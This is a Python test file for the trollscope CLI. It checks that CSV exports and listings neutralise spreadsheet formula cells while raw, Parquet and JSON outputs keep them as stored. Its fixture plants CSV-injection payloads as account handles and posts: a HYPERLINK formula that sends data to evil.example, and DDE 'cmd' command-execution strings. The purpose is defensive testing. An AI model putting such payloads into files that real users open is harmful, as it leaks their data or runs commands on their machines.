"""What the CLI writes is safe to open: CSV cells that a spreadsheet would run as formulas are neutralised
(OWASP), in exports and in every listing's `--format csv`; `--raw` keeps them; Parquet and JSON are as stored.
In the terminal, handles and messages are shown as typed, never read as Rich markup.

The store: an honest crowd and a planted ring whose handles, labels and posts are formula cells; detection
puts the ring in campaign C1. A quarantined line starts with a formula too."""

from __future__ import annotations

import csv
import io
import json

import pyarrow.parquet as pq
import pytest
from detect_helpers import MAPPING, make_store, synthetic_world, write_csv
from typer.testing import CliRunner

from trollscope.cli import app
from trollscope.cli.app import out
from trollscope.pipeline import detect
from trollscope.ingest import ingest

runner = CliRunner()

# The cells of issue 16: a link that leaks data, DDE command execution, @ and - starts, tab and CR.
FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "\t=1+1 tab", "\r=1+1 cr"]
# the other two ring members: no formula, so nothing added in CSV; Rich markup for the terminal
PLAIN = ["[link=http://evil.example]click[/link]", "[/bold] markup"]
CATEGORY = "=1+2 ring"
STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture(scope="module")
def db(tmp_path_factory) -> str:
    folder = tmp_path_factory.mktemp("formulas")
    world = synthetic_world(seed=5, n_honest=120, n_items=200, mean_activity=10.0, mean_delay=1800.0,
                            viral_reposters=80)
    rename = dict(zip(world.ring, FORMULAS + PLAIN))
    k = 0
    for row in world.rows:
        if row["user"] in rename:
            row["user"] = rename[row["user"]]
            row["category"] = CATEGORY
            if row["kind"] == "repost":
                row["text"] = FORMULAS[k % len(FORMULAS)]
                k += 1
    store = make_store(folder, world.rows, name="formulas.duckdb")
    bad = write_csv(folder / "bad.csv", [{"id": "=1+1 bad", "user": "x", "ts": "not-a-date", "text": "t"}])
    assert ingest(store, [str(bad)], mapping=MAPPING)[0].rows_quarantined == 1
    detect(store, window=60)
    store.close()
    return str(folder / "formulas.duckdb")


def _csv(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def _number(cell: str) -> bool:
    try:
        float(cell)
        return True
    except ValueError:
        return False


def _assert_safe(rows: list[dict]) -> None:
    """No cell would run as a formula: each one starting with a formula character is a plain number."""
    assert rows
    for row in rows:
        for name, value in row.items():
            assert not value.startswith(STARTS) or _number(value), (name, value)


def _run(*args: str) -> str:
    result = runner.invoke(app, list(args))
    assert result.exit_code == 0, result.output
    return result.stdout_bytes.decode("utf-8")  # as written: a CR stays a CR


def test_exported_posts_and_accounts_have_no_formula_cells(db, tmp_path):
    for table in ("posts", "accounts"):
        _run("export", table, "-o", str(tmp_path / f"{table}.csv"), "--db", db)
    posts = _csv((tmp_path / "posts.csv").read_bytes().decode("utf-8"))
    accounts = _csv((tmp_path / "accounts.csv").read_bytes().decode("utf-8"))
    _assert_safe(posts)
    _assert_safe(accounts)
    handles = {r["handle"] for r in accounts}
    assert {"'" + h for h in FORMULAS} <= handles and set(PLAIN) <= handles
    assert {"'" + h for h in FORMULAS} <= {r["text"] for r in posts}
    # lists and maps are JSON text: the handle inside stays as it is
    assert all(json.loads(r["labels"]) == {"account_category": CATEGORY}
               for r in accounts if r["handle"].lstrip("'") in FORMULAS)


def test_any_exported_table_neutralises_text_and_keeps_numbers(db, tmp_path):
    out = tmp_path / "signals.txt"
    _run("export", "account_signals", "-o", str(out), "--as", "csv", "--db", db)
    rows = _csv(out.read_bytes().decode("utf-8"))
    _assert_safe(rows)
    assert {"'" + h for h in FORMULAS} <= {r["handle"] for r in rows}
    # a typed number is data, not a formula: negative scores are written as numbers
    assert any(r["score"].startswith("-") and _number(r["score"]) for r in rows)
    _run("export", "quarantine", "-o", str(tmp_path / "q.csv"), "--db", db)
    (q,) = _csv((tmp_path / "q.csv").read_bytes().decode("utf-8"))
    assert q["raw"].startswith("'=1+1 bad,")


def test_raw_keeps_cells_verbatim(db, tmp_path):
    _run("export", "accounts", "-o", str(tmp_path / "a.csv"), "--raw", "--db", db)
    handles = {r["handle"] for r in _csv((tmp_path / "a.csv").read_bytes().decode("utf-8"))}
    assert set(FORMULAS) <= handles
    listed = _csv(_run("accounts", "--format", "csv", "--raw", "--db", db))
    assert set(FORMULAS) <= {r["handle"] for r in listed}


def test_parquet_and_json_are_as_stored(db, tmp_path):
    _run("export", "accounts", "-o", str(tmp_path / "a.parquet"), "--db", db)
    assert set(FORMULAS) <= set(pq.read_table(tmp_path / "a.parquet").column("handle").to_pylist())
    listed = json.loads(_run("accounts", "--format", "json", "--flagged", "--db", db))
    assert {r["handle"] for r in listed} == set(FORMULAS + PLAIN)


def test_every_listing_in_csv_is_safe(db):
    accounts = _csv(_run("accounts", "--format", "csv", "--db", db))
    _assert_safe(accounts)
    assert {"'" + h for h in FORMULAS} <= {r["handle"] for r in accounts}
    assert {r["category"] for r in accounts if r["campaign_id"] == "C1"} == {"'" + CATEGORY}
    campaigns = _csv(_run("campaigns", "--format", "csv", "--db", db))
    _assert_safe(campaigns)
    assert campaigns[0]["campaign_id"] == "C1"
    assert set(json.loads(campaigns[0]["top_accounts"])) <= set(FORMULAS + PLAIN)
    (quarantined,) = _csv(_run("quarantine", "--format", "csv", "--db", db))
    _assert_safe([quarantined])
    assert quarantined["raw"].startswith("'=1+1 bad,")
    for handle in FORMULAS:  # the @ one too: an id that starts with @ is found as given
        (profile,) = _csv(_run("account", "--format", "csv", "--db", db, "--", handle))
        _assert_safe([profile])
        assert profile["handle"] == "'" + handle and profile["account_id"] == "'" + handle
        assert any(v.startswith("-") for k, v in profile.items() if k.startswith("c_"))  # numbers stay numbers


@pytest.fixture
def wide(monkeypatch):
    monkeypatch.setattr(out, "width", 250)  # tables do not fold a handle across lines


def test_tables_and_lines_show_markup_as_typed(db, wide):
    link, close = PLAIN
    for args in (["accounts", "--flagged"], ["campaign", "C1"], ["campaigns"], ["explain", link, close],
                 ["account", link]):
        shown = _run(*args, "--db", db)
        assert close in shown and (link in shown or args[0] == "campaigns"), args
    assert "-2+3+cmd|' /C calc'!A0" in _run("accounts", "--db", db)  # a table shows cells verbatim


def test_an_error_quoting_markup_is_one_line(db):
    result = runner.invoke(app, ["explain", "[/nope]", "[link=x]y", "--db", db])
    assert result.exit_code == 2
    assert result.output.strip() == "error: no account '[/nope]' in the store"


def test_export_makes_a_cached_result_current_for_the_run(db, tmp_path):
    import shutil

    import trollscope

    copy = tmp_path / "copy.duckdb"
    shutil.copy(db, copy)
    with trollscope.open(copy) as store:
        store.con.execute("DROP TABLE account_signals")
    _run("export", "account_signals", "-o", str(tmp_path / "s.csv"), "--db", str(copy))
    assert len(_csv((tmp_path / "s.csv").read_bytes().decode("utf-8"))) == 184  # every account with posts
